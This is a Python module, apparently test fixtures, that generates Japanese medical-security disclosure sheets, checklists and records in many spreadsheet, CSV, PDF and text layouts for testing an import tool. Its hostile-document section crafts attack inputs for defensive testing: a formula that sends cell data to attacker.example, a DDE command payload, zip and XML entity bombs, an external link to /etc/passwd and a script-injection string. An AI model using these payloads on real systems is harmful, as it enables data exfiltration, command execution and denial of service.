"""Documents to import, as people have them: built with real office programs from the texts of the data folder itself.

No official blank form is shipped; the questions come from `soukan export --format json`. Each kind of document has a
section of its own; a builder takes a folder and returns the path of what it wrote there.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
from openpyxl.styles import Alignment, PatternFill
from openpyxl.utils import get_column_letter

# Time that an office program may take for one document.
OFFICE_SECONDS = 180


def corpus(soukan: Path, data: Path) -> dict:
    """What a data folder comes to."""
    out = subprocess.run([soukan, "--data", data, "export", "--format", "json"], check=True, capture_output=True)
    return json.loads(out.stdout)


def convert(source: Path, target: str, folder: Path) -> Path:
    """A document in another format, written by LibreOffice; `target` is its ending, or ending:filter:options."""
    profile = folder / "office-profile"
    command = ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", target]
    subprocess.run(
        [*command, "--outdir", folder, source],
        check=True, capture_output=True, timeout=OFFICE_SECONDS,
    )
    made = folder / f"{source.stem}.{target.split(':')[0]}"
    if not made.exists():
        raise SystemExit(f"LibreOffice did not write {made}")
    return made


# ---------------------------------------------------------------------------------------------------------------------
# Disclosure sheets


@dataclass
class Question:
    """A row of the form, and what the vendor says on it."""

    key: str
    number: str
    text: str
    choices: list[str]
    heading: str
    answer: str | None = None  # None: nothing ticked
    remark: str = ""


@dataclass
class Sheet:
    """A vendor's sheet."""

    questions: list[Question]
    vendor: str = "株式会社試験"
    service: str = "試験サービス"
    version: str = "1.2"
    date: str = "2026年2月3日"
    remarks: dict[int, str] = field(default_factory=dict)


def sheet(found: dict, seed: int = 0) -> Sheet:
    """The form of a corpus, filled in: mostly はい, some of everything, one in forty unanswered, one in nine with a remark."""
    nodes = {node["key"]: node for node in found["nodes"]}
    items = [node for node in found["nodes"] if node["kind"] == "item"]
    items.sort(key=lambda node: item_order(node["key"]))
    questions = []
    for index, node in enumerate(items):
        number = "・" if node["key"][-1].isalpha() else node["key"].removeprefix("SDS")
        question = Question(node["key"].removeprefix("SDS"), number, node["text"], node["choices"], nodes[node["heading"]]["title"])
        turn = (index * 7 + seed) % 40
        if node["choices"] and turn != 13:
            question.answer = node["choices"][[0, 0, 0, 1, 0, 2, 0, 0][turn % 8] % len(node["choices"])]
        if index % 9 == 4:
            question.remark = f"{question.key} についての備考です。\n当社の規程（第{index}条）に従います。"
        questions.append(question)
    return Sheet(questions)


def item_order(key: str) -> tuple:
    """The order of the form: 17.1, 17.1.a, 17.1.1, 17.2."""
    parts = key.removeprefix("SDS").split(".")
    return tuple((0, ord(part)) if part.isalpha() else (1, int(part)) for part in parts)


def expected(filled: Sheet) -> dict[str, str]:
    """The answers as the JSON document has them: those of a question without choices that nobody ticks are unknown."""
    return {
        f"SDS{question.key}": question.answer or ("unanswered" if question.choices else "unknown")
        for question in filled.questions
    }


def numbered(filled: Sheet) -> dict[str, int]:
    """Remarks with numbers in the order of the questions, for layouts with a list."""
    spoken = [question for question in filled.questions if question.remark]
    return {question.key: number for number, question in enumerate(spoken, 1)}


def grid(filled: Sheet, mark: str = "○", remarks: str = "list") -> list[list[str]]:
    """The common layout: a head, columns of choices to tick. `remarks`: list, in place, or elsewhere."""
    numbers = numbered(filled)
    rows = [
        ["サービス事業者による医療情報セキュリティ開示書（医療情報システムの安全管理に関するガイドライン第6.0版対応）"],
        ["作成日", filled.date],
        ["サービス事業者", filled.vendor],
        ["サービス名称", filled.service],
        ["バージョン", filled.version],
        [],
        ["No.", "質問", "はい", "いいえ", "対象外", "備考"],
    ]
    heading = None
    for question in filled.questions:
        if question.heading != heading:
            heading = question.heading
            rows.append(["", heading])
        ticks = [mark if question.answer == choice else "" for choice in ("はい", "いいえ", "対象外")]
        if question.choices and "該当" in question.choices:
            # Two choices: their words stand in the row, the tick before the one that holds.
            ticks = [f"{mark} {choice}" if question.answer == choice else choice for choice in ("該当", "非該当")] + [""]
        number = numbers.get(question.key)
        remark = question.remark if remarks == "in place" else str(number) if number else "-"
        rows.append([question.number, question.text, *ticks, remark])
    if remarks == "list":
        rows += [[], ["備考記載欄"]]
        rows += [[str(numbers[question.key]), question.remark] for question in filled.questions if question.remark]
    return rows


def write_xlsx(rows: list[list[str]], path: Path) -> Path:
    """A workbook with one worksheet; texts wrapped, as people have them."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = "開示書"
    fill_page(page, rows)
    book.save(path)
    return path


def fill_page(page, rows: list[list[str]]) -> None:
    """Puts rows into a worksheet."""
    for row, cells in enumerate(rows, 1):
        for column, text in enumerate(cells, 1):
            if text != "":
                cell = page.cell(row, column, text)
                cell.alignment = Alignment(wrap_text=True, vertical="top")
    page.column_dimensions["B"].width = 70
    page.column_dimensions["F"].width = 50


def clean(filled: Sheet, folder: Path) -> Path:
    """A head, columns of choices, a list of remarks at the end."""
    return write_xlsx(grid(filled), folder / "clean.xlsx")


def ticked(filled: Sheet, folder: Path, mark: str, name: str) -> Path:
    """The same with another mark; a number where the mark is one."""
    rows = grid(filled, mark)
    if mark.isdigit():
        rows = [[int(cell) if cell == mark and column in (2, 3, 4) else cell for column, cell in enumerate(row)] for row in rows]
    return write_xlsx(rows, folder / f"ticks-{name}.xlsx")


def in_place(filled: Sheet, folder: Path) -> Path:
    """Remarks beside their rows."""
    return write_xlsx(grid(filled, remarks="in place"), folder / "remarks-in-place.xlsx")


def second_worksheet(filled: Sheet, folder: Path) -> Path:
    """Remarks on a worksheet of their own."""
    book = openpyxl.Workbook()
    fill_page(book.active, grid(filled, remarks="elsewhere"))
    book.active.title = "開示書"
    numbers = numbered(filled)
    rows = [["備考番号", "内容"]]
    rows += [[numbers[question.key], question.remark] for question in filled.questions if question.remark]
    fill_page(book.create_sheet("備考"), rows)
    path = folder / "remarks-on-a-second-worksheet.xlsx"
    book.save(path)
    return path


def merged(filled: Sheet, folder: Path) -> Path:
    """Heads over two rows, a column of categories merged over its rows, a remark merged over two rows."""
    book = openpyxl.Workbook()
    page = book.active
    page.append(["サービス事業者による医療情報セキュリティ開示書"])
    page.merge_cells("A1:G1")
    for label, value in (("作成日", filled.date), ("サービス事業者", filled.vendor), ("サービス名称", filled.service), ("バージョン", filled.version)):
        page.append([label, None, value])
        page.merge_cells(start_row=page.max_row, end_row=page.max_row, start_column=1, end_column=2)
    page.append(["区分", "No.", "質問", "回答", None, None, "備考"])
    page.append([None, None, None, "はい\n(該当)", "いいえ\n(非該当)", "対象外", None])
    top = page.max_row - 1
    for column in "ABCG":
        page.merge_cells(f"{column}{top}:{column}{top + 1}")
    page.merge_cells(f"D{top}:F{top}")
    first, heading = None, None
    names = {"該当": "はい", "非該当": "いいえ"}
    for question in filled.questions:
        row = page.max_row + 1
        if question.heading != heading:
            if first and row - 1 > first:
                page.merge_cells(start_row=first, end_row=row - 1, start_column=1, end_column=1)
            heading, first = question.heading, row
            page.cell(row, 1, heading)
        page.cell(row, 2, question.number)
        page.cell(row, 3, question.text)
        answer = names.get(question.answer, question.answer)
        if answer:
            page.cell(row, 4 + ("はい", "いいえ", "対象外").index(answer), "○")
        page.cell(row, 7, question.remark or "-")
    page.merge_cells(start_row=first, end_row=page.max_row, start_column=1, end_column=1)
    path = folder / "merged.xlsx"
    book.save(path)
    return path


def boxes(filled: Sheet, folder: Path) -> Path:
    """The layout of the form itself: the choices in the row, a box before each, 備考 and a number behind."""
    rows = [["サービス事業者による医療情報セキュリティ開示書"], ["作成日", filled.date], ["サービス事業者", filled.vendor],
            ["サービス名称", filled.service], ["バージョン", filled.version], []]
    numbers, heading = numbered(filled), None
    for question in filled.questions:
        if question.heading != heading:
            heading = question.heading
            rows += [[], [heading]]
        choices = [f"{'■' if choice == question.answer else '□'}{choice}" for choice in question.choices]
        lead = question.number if question.number == "・" else f"{question.number} "
        rows.append([lead + question.text, *choices, *([""] * (3 - len(choices))), "備考", str(numbers.get(question.key, "-"))])
    rows += [["備考記載欄"]]
    rows += [[str(numbers[question.key]), question.remark] for question in filled.questions if question.remark]
    return write_xlsx(rows, folder / "boxes.xlsx")


def one_cell(filled: Sheet, folder: Path) -> Path:
    """All choices in one cell; the one that holds in brackets."""
    rows = grid(filled, remarks="in place")
    out = rows[:6] + [["No.", "質問", "回答", "備考"]]
    questions = iter(filled.questions)
    for row in rows[7:]:
        if len(row) < 6:
            out.append(row)
            continue
        question = next(questions)
        words = [f"【{choice}】" if choice == question.answer else choice for choice in question.choices]
        out.append([row[0], row[1], "・".join(words), row[5]])
    return write_xlsx(out, folder / "one-cell.xlsx")


def written(filled: Sheet, folder: Path) -> Path:
    """The answer written into a column of its own."""
    rows = grid(filled, remarks="in place")
    out = rows[:6] + [["No.", "質問", "回答", "備考"]]
    questions = iter(filled.questions)
    for row in rows[7:]:
        out.append(row if len(row) < 6 else [row[0], row[1], next(questions).answer or "", row[5]])
    return write_xlsx(out, folder / "written.xlsx")


def filled_cells(filled: Sheet, folder: Path) -> Path:
    """The choices in the row, the one that holds painted; rows striped, heads of another colour."""
    book = openpyxl.Workbook()
    page = book.active
    tick, stripe, head = (PatternFill("solid", start_color=color) for color in ("FFFF99", "EEEEEE", "99CCFF"))
    fill_page(page, [["医療情報セキュリティ開示書"], ["作成日", filled.date], ["サービス事業者", filled.vendor], ["サービス名称", filled.service], ["バージョン", filled.version]])
    heading = None
    for index, question in enumerate(filled.questions):
        if question.heading != heading:
            heading = question.heading
            page.append([heading])
            page.cell(page.max_row, 1).fill = head
        page.append([question.number, question.text, *question.choices])
        page.cell(page.max_row, 7, question.remark or "-")
        for column in range(1, 8):
            if index % 2:
                page.cell(page.max_row, column).fill = stripe
        if question.answer:
            page.cell(page.max_row, 3 + question.choices.index(question.answer)).fill = tick
    path = folder / "filled.xlsx"
    book.save(path)
    return path


def ellipses(filled: Sheet, folder: Path) -> Path:
    """The choices in the row, an ellipse drawn over the one that holds: a flat OpenDocument file, for LibreOffice to convert."""
    def cell(text: str, shape: str = "") -> str:
        return f'<table:table-cell office:value-type="string">{shape}<text:p>{escape(text)}</text:p></table:table-cell>'

    rows = []
    for label, value in (("医療情報セキュリティ開示書", ""), ("作成日", filled.date), ("サービス事業者", filled.vendor), ("サービス名称", filled.service), ("バージョン", filled.version)):
        rows.append(cell(label) + cell(value))
    for question in filled.questions:
        row = len(rows) + 1
        cells = [cell(question.number), cell(question.text)]
        for column, choice in zip("CDE", question.choices):
            shape = ""
            if choice == question.answer:
                place = f'table:end-cell-address="開示書.{column}{row}" table:end-x="19mm" table:end-y="4.4mm" svg:x="1mm" svg:y="0.2mm" svg:width="18mm" svg:height="4.2mm"'
                shape = f'<draw:custom-shape {place}><draw:enhanced-geometry draw:type="ellipse" svg:viewBox="0 0 21600 21600" draw:enhanced-path="U 10800 10800 10800 10800 0 360 Z N"/></draw:custom-shape>'
            cells.append(cell(choice, shape))
        cells += ["<table:table-cell/>"] * (5 - len(cells)) + [cell(question.remark or "-")]
        rows.append("".join(cells))
    names = ("office", "style", "text", "table", "fo")
    spaces = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{"xsl-fo-compatible" if name == "fo" else name}:1.0"' for name in names)
    spaces += ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
    widths = "".join(f'<style:style style:name="w{width}" style:family="table-column"><style:table-column-properties style:column-width="{width}mm"/></style:style>' for width in (15, 20, 100))
    columns = "".join(f'<table:table-column table:style-name="w{width}"/>' for width in (15, 100, 20, 20, 20, 100))
    body = "".join(f"<table:table-row>{row}</table:table-row>" for row in rows)
    path = folder / "ellipses.fods"
    path.write_text(
        f'<?xml version="1.0" encoding="UTF-8"?><office:document {spaces} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">'
        f"<office:automatic-styles>{widths}</office:automatic-styles>"
        f'<office:body><office:spreadsheet><table:table table:name="開示書">{columns}{body}</table:table></office:spreadsheet></office:body></office:document>',
        encoding="utf-8",
    )
    return path


def escape(text: str) -> str:
    """Text for XML."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def as_csv(filled: Sheet, folder: Path, encoding: str) -> Path:
    """The common layout as CSV, as spreadsheet programs save it."""
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows(grid(filled))
    path = folder / f"sheet-{encoding}.csv"
    path.write_bytes(text.getvalue().encode(encoding))
    return path


def pdf(filled: Sheet, folder: Path, layout: str) -> Path:
    """The PDF that an office program prints.

    `layout`: boxes; clean, with the heads of the columns on every page; headless, with them on the first page alone.
    """
    source = boxes(filled, folder) if layout == "boxes" else clean(filled, folder)
    book = openpyxl.load_workbook(source)
    page = book.active
    page.page_setup.orientation = "landscape"
    page.page_setup.fitToHeight = 0
    page.sheet_properties.pageSetUpPr = openpyxl.worksheet.properties.PageSetupProperties(fitToPage=True)
    if layout == "boxes":
        page.column_dimensions["A"].width, page.column_dimensions["B"].width, page.column_dimensions["F"].width = 90, 10, 8
    else:
        page.column_dimensions["A"].width = 18
        page.merge_cells("A1:F1")
        if layout == "clean":
            page.print_title_rows = "7:7"
    for row in page.iter_rows():
        # As high as its highest cell: nothing of it is cut off in print.
        page.row_dimensions[row[0].row].height = 18 * max(lines_of(page, cell) for cell in row)
    printed = folder / f"print-{layout}.xlsx"
    book.save(printed)
    return convert(printed, "pdf", folder)


def pdf_text(filled: Sheet, folder: Path, layout: str) -> Path:
    """Its text layer, with the places of its words kept."""
    out = folder / f"text-{layout}.txt"
    subprocess.run(["pdftotext", "-layout", pdf(filled, folder, layout), out], check=True)
    return out


def lines_of(page, cell) -> int:
    """How many lines a cell takes at the width of its column, two columns of text a character."""
    if cell.value is None or not cell.alignment.wrap_text or (cell.row < 8 and cell.column == 1):
        return 1
    width = page.column_dimensions[cell.column_letter].width
    return sum(1 + int(len(line) * 2.2 / width) for line in str(cell.value).split("\n"))


def revised(filled: Sheet, folder: Path) -> Path:
    """Another revision of the form: one question gone, one new, one replaced, one reworded, one renumbered."""
    rows = grid(filled)
    place = {row[0]: index for index, row in enumerate(rows) if len(row) == 6}
    rows[place["10"]][1] = "機器の台帳を年に一度以上更新し、医療機関等の求めに応じて提示できるか？"  # replaced
    rows[place["14"]][1] = rows[place["14"]][1].replace("覗き見防止の機能", "のぞき見を防止する機能")  # reworded
    rows[place["9"]][0] = "9.9"  # renumbered
    new = ["15.1", "生成AIサービスに医療情報を入力させない対策を講じているか？", "○", "", "", "-"]
    rows.insert(place["15"] + 1, new)  # new
    del rows[place["13"]]  # gone
    return write_xlsx(rows, folder / "revised.xlsx")


def unclear(filled: Sheet, folder: Path) -> Path:
    """Two ticks, a tick right of the choices, another word at a choice, a remark that contradicts its tick."""
    rows = grid(filled, remarks="in place")
    place = {row[0]: index for index, row in enumerate(rows) if len(row) == 6}
    rows[place["3"]][2:5] = ["○", "○", ""]
    rows[place["4"]][2:5] = ["△", "", ""]
    rows[place["5"]][2:5] = ["", "", ""]
    rows[place["6"]][2:6] = ["○", "", "", "定めていないため、「いいえ」"]
    return write_xlsx(rows, folder / "unclear.xlsx")


def injected(filled: Sheet, folder: Path) -> Path:
    """Formulas in remarks: computed by LibreOffice, so that they have a last value; and words that look like formulas."""
    path = folder / "injected-source.xlsx"
    book = openpyxl.load_workbook(write_xlsx(grid(filled, remarks="in place"), path))
    page = book.active
    rows = {page.cell(row, 1).value: row for row in range(1, page.max_row + 1)}
    page.cell(rows["3"], 6).value = '=HYPERLINK("http://attacker.example/?"&B3,"詳しくはこちら")'
    page.cell(rows["4"], 6).value = "=1+1"
    for number, words in (("5", "=cmd|'/C calc'!A0"), ("6", "+SUM(1,1)"), ("7", "@SUM(1,1)")):
        cell = page.cell(rows[number], 6)
        cell.value = words
        cell.data_type = "s"
    book.save(path)
    made = convert(path, "xlsx:Calc MS Excel 2007 XML", folder / "office")
    return Path(shutil.move(made, folder / "injected.xlsx"))


# Hostile documents of any kind


def rezipped(source: Path, target: Path, changed: dict[str, bytes | None]) -> Path:
    """A package with parts added, replaced or (None) taken out."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changed:
                new.writestr(name, old.read(name))
        for name, part in changed.items():
            if part is not None:
                new.writestr(name, part)
    return target


def bomb(source: Path, target: Path, gigabytes: int, lies: bool = False) -> Path:
    """A workbook whose worksheet unpacks to gigabytes; one that lies says in its directory that it is small."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
        for name in old.namelist():
            if name != "xl/worksheets/sheet1.xml":
                new.writestr(name, old.read(name))
        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(gigabytes * 64):
                part.write(b"<row/>" * (16 * 1024 * 1024 // 6))
            part.write(b"</sheetData></worksheet>")
    if lies:
        raw = bytearray(target.read_bytes())
        at = raw.rfind(b"PK\x01\x02", 0, raw.rfind(b"xl/worksheets/sheet1.xml"))
        raw[at + 24:at + 28] = (1000).to_bytes(4, "little")
        target.write_bytes(raw)
    return target


def many_rows(source: Path, target: Path) -> Path:
    """A worksheet with a million rows, none of which holds anything."""
    head = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    rows = b"".join(b'<row r="%d"><c r="A%d"/></row>' % (row, row) for row in range(1, 1_000_001))
    return rezipped(source, target, {"xl/worksheets/sheet1.xml": head + rows + b"</sheetData></worksheet>"})


def far_cell(filled: Sheet, folder: Path) -> Path:
    """A sheet with one more cell, in the farthest corner."""
    book = openpyxl.load_workbook(clean(filled, folder))
    book.active["XFD1048576"] = "隅"
    path = folder / "far-cell.xlsx"
    book.save(path)
    return path


def encrypted(source: Path, target: Path) -> Path:
    """A workbook with a password."""
    import msoffcrypto.format.ooxml

    with source.open("rb") as plain, target.open("wb") as secret:
        msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt("秘密", secret)
    return target


def laughs(source: Path, target: Path) -> Path:
    """A worksheet with entities that would expand to gigabytes."""
    entities = '<!ENTITY a0 "はい">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    part = f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData></worksheet>'
    return rezipped(source, target, {"xl/worksheets/sheet1.xml": part.encode()})


def deep(source: Path, target: Path) -> Path:
    """An OpenDocument file with a hundred thousand elements in each other."""
    with zipfile.ZipFile(source) as old:
        content = old.read("content.xml").decode()
    nested = "<text:span>" * 100_000 + "</text:span>" * 100_000
    changed = content.replace("<text:p>", f"<text:p>{nested}", 1)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        for name in old.namelist():
            if name != "mimetype":
                new.writestr(name, changed if name == "content.xml" else old.read(name))
    return target


def linked(filled: Sheet, folder: Path) -> Path:
    """A workbook that refers to another file."""
    link = ('<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>')
    relation = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
    return rezipped(clean(filled, folder), folder / "linked.xlsx", {
        "xl/externalLinks/externalLink1.xml": link.encode(), "xl/externalLinks/_rels/externalLink1.xml.rels": relation.encode(),
    })


# ---------------------------------------------------------------------------------------------------------------------
# The table of correlations and volumes of the guideline. Their texts are those of the data folder.

LANES = ("G", "M", "C")
VOLUME_NAMES = {"G": "経営管理編", "M": "企画管理編", "C": "システム運用編"}


def circled(number: int) -> str:
    return chr(0x2460 + number - 1) if number <= 20 else chr(0x3251 + number - 21)


def table_chains(data: dict, sure: tuple[str, ...] = ("certain", "probable")) -> list[tuple[str, str, list[str]]]:
    """Requirements that the table joins, from above: of 経営管理編, of 企画管理編, and those of システム運用編 below it."""
    nodes = {node["key"]: node for node in data["nodes"]}
    links = [link for link in data["links"] if link["relation"] == "elaboratedBy" and link["confidence_word"] in sure]
    has_text = lambda key: nodes[key]["kind"] == "requirement" and nodes[key]["text"] and nodes[key]["ordinal"]
    links = [(link["from"], link["to"]) for link in links if has_text(link["from"]) and has_text(link["to"])]
    below = {upper: [to for source, to in links if source == upper] for upper, _ in links}
    return [
        (upper, middle, below.get(middle, []))
        for upper in below if upper.startswith("G")
        for middle in below[upper] if middle.startswith("M")
    ]


def table_rows(data: dict) -> list[list[str | None]]:
    """The rows of such a table: `None` where a cell above spans this one, `－` where officially is nothing."""
    nodes = {node["key"]: node for node in data["nodes"]}
    sections = {key: node for key, node in nodes.items() if node["kind"] == "section"}

    def cells(key: str) -> list[str]:
        node, section = nodes[key], sections[key.rsplit("-", 1)[0]]
        return [f"{section['key'][1:]} {section['title']}", f"{circled(node['ordinal'])} {node['text']}"]

    rows, last = [], None
    for upper, middle, lower in table_chains(data):
        for index, control in enumerate(lower or [None]):
            left = cells(upper) if upper != last else [None, None]
            row = left + (cells(middle) if index == 0 else [None, None]) + (cells(control) if control else ["－", "－"])
            rows.append(row)
            last = upper
    return rows


def official_table(data: dict, folder: Path, target: str = "xlsx:Calc MS Excel 2007 XML") -> Path:
    """The table as published: two lines of heads, merged cells; saved by LibreOffice."""
    book = openpyxl.Workbook()
    sheet = book.active
    for column, volume in zip((1, 3, 5), LANES):
        sheet.cell(1, column, VOLUME_NAMES[volume])
        sheet.merge_cells(start_row=1, end_row=1, start_column=column, end_column=column + 1)
        sheet.cell(2, column, "記載箇所"), sheet.cell(2, column + 1, "遵守事項")
    rows = table_rows(data)
    for column in range(6):
        for index, row in enumerate(rows):
            if row[column] is None:
                continue
            end = index
            while end + 1 < len(rows) and rows[end + 1][column] is None:
                end += 1
            sheet.cell(index + 3, column + 1, row[column]).alignment = Alignment(wrap_text=True)
            if end > index:
                sheet.merge_cells(start_row=index + 3, end_row=end + 3, start_column=column + 1, end_column=column + 1)
    (folder / "plain").mkdir(exist_ok=True)
    path = folder / "plain" / "official-table.xlsx"
    book.save(path)
    return convert(path, target, folder)


def official_csv(data: dict, folder: Path, encoding: str = "cp932") -> Path:
    """The same as CSV, where merged cells are blank."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([name for volume in LANES for name in (VOLUME_NAMES[volume], "")])
    writer.writerow(["記載箇所", "遵守事項"] * 3)
    writer.writerows([[cell or "" for cell in row] for row in table_rows(data)])
    path = folder / f"official-{encoding}.csv"
    path.write_bytes(out.getvalue().encode(encoding, errors="replace"))
    return path


def volume_text(data: dict, folder: Path, volume: str = "C") -> Path:
    """A volume as text: its headings, its lists, wrapped lines, page numbers and running heads."""
    name, width = VOLUME_NAMES[volume], 38
    lines = ["医療情報システムの安全管理に関するガイドライン 第6.0版", name, ""]
    own = [node for node in data["nodes"] if node["key"].startswith(volume)]
    for section in (node for node in own if node["kind"] == "section" and node["has_requirements"]):
        lines += ["", f"{section['key'][1:]}. {section['title']}", "【遵守事項】"]
        for node in (node for node in own if node["kind"] == "requirement" and node["part_of"] == section["key"]):
            if not node["text"] or node["ordinal"] is None:
                break
            words = f"{circled(node['ordinal'])} {node['text'].splitlines()[0]}"
            lines += ["  " + words[at:at + width] for at in range(0, len(words), width)]
            lines += node["text"].splitlines()[1:]
    pages = [lines[at:at + 40] for at in range(0, len(lines), 40)]
    text = "\f".join("\n".join([*page, "", f"{' ' * 30}- {number} -", ""]) for number, page in enumerate(pages, 1))
    path = folder / f"volume-{volume}.txt"
    path.write_text(text, encoding="utf-8")
    return path


# Checklists, mappings, own records


def checklist_rows(found: dict) -> list[list[object]]:
    """The checklist as a table with a title above its headings."""
    titles = {node["key"]: node for node in found["nodes"] if node["kind"] == "category"}
    rows: list[list[object]] = [
        ["クラウドサービスのチェックリスト"],
        ["No.", "大分類", "中分類", "対策項目", "確認対象物例・エビデンス例", "判定結果"],
    ]
    for node in found["nodes"]:
        if node["kind"] == "checklist_item":
            middle = titles[node["part_of"]]
            major = titles[middle["part_of"]]
            rows.append([node["number"], major["title"], middle["title"], node["text"], "、".join(node["evidence"]), ""])
    return rows


def checklist(found: dict, folder: Path) -> Path:
    """A workbook with the major categories in merged cells, and the (2) of a measure on a line of its own."""
    rows = checklist_rows(found)
    for row in rows[2:]:
        row[3] = str(row[3]).replace("(2)", "\n(2)", 1)
    path = write_xlsx(rows, folder / "checklist.xlsx")
    book = openpyxl.load_workbook(path)
    page, first = book.active, 3
    for row in range(4, len(rows) + 2):
        if row > len(rows) or rows[row - 1][1] != rows[first - 1][1]:
            if row - first > 1:
                page.merge_cells(start_row=first, end_row=row - 1, start_column=2, end_column=2)
            first = row
    book.save(path)
    return path


def mapping_rows() -> list[list[object]]:
    """A person's own mappings, one of them between things that are not there."""
    return [
        ["番号", "対応元", "関係", "対応先", "確度", "理由"],
        [1, "企画管理編 13⑧", "closeMatch", "チェックリスト250", 0.8, "試験の理由その一"],
        [2, "開示書17.1", "relatedMatch", "CL251", 0.5, "試験の理由その二"],
        [3, "M99-1", "relatedMatch", "CL251", 0.5, "試験の理由その三"],
    ]


def mappings(folder: Path) -> Path:
    """These as a workbook."""
    return write_xlsx(mapping_rows(), folder / "mappings.xlsx")


def record_rows() -> list[list[object]]:
    """An institution's own records."""
    return [
        ["鍵", "種類", "内容", "記入者", "記入日"],
        ["M13-8", "メモ", "月例で確認する", "管理課", "2026-11-05"],
        ["企画管理編 13⑧", "決定", "委託先の報告書で、\n「代える」", "委員会", "2026-10-01"],
        ["SDS17.1", "証跡", "<script>alert(1)</script>", "", ""],
        ["kintone:SDS17.1", "期日", "2027-03-31 までに回答を確かめる", "", ""],
        ["CL76", "担当", "=1+1 ではなく契約係", "", ""],
        ["C99-1", "メモ", "なくなった鍵", "", ""],
    ]


# Export filters of LibreOffice for text: separator, quote, encoding (64 is Shift_JIS, 76 UTF-8, 65535 UTF-16).
TEXTS = {"Shift_JIS": "44,34,64", "UTF-8": "44,34,76", "UTF-16": "9,34,65535", "UTF-8 with tabs": "9,34,76"}


# A comma-separated text in UTF-8, whatever the locale.
CSV = f"csv:Text - txt - csv (StarCalc):{TEXTS['UTF-8']}"


def records(folder: Path, encoding: str) -> Path:
    """The records as LibreOffice saves a workbook as text."""
    folder.mkdir(parents=True, exist_ok=True)
    book = folder.parent / f"{folder.name}-records.xlsx"
    write_xlsx(record_rows(), book)
    written = convert(book, f"csv:Text - txt - csv (StarCalc):{TEXTS[encoding]}", folder.parent)
    return Path(shutil.move(written, folder / "records.csv"))
